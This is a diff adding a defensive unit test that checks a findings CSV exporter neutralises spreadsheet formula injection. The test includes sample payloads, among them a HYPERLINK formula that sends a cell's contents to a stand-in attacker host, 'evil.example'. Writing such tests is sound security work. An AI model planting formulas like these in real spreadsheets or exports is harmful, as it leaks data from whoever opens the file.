@@ -123,3 +123,18 @@ def test_geojson_draws_the_measured_line_or_the_premises(
 def test_an_unknown_format_is_refused() -> None:
     with pytest.raises(ValidationError, match="format"):
         export([], "xlsx")
+
+
+def test_findings_csv_neutralises_formulas() -> None:
+    import csv
+    import io
+
+    from zoneguard.services.findings import CSV_COLUMNS, to_csv
+
+    row = {c: None for c in CSV_COLUMNS}
+    row.update(id=1, premises_name='=HYPERLINK("http://evil.example/?x="&A1,"click")',
+               school_name="@SUM(1+1)", distance_m=-3.5, reasons=["+cmd"])
+    (parsed,) = list(csv.DictReader(io.StringIO(to_csv([row]))))
+    assert parsed["premises_name"] == "'" + row["premises_name"]
+    assert parsed["school_name"] == "'@SUM(1+1)" and parsed["reasons"] == "'+cmd"
+    assert parsed["distance_m"] == "-3.5"
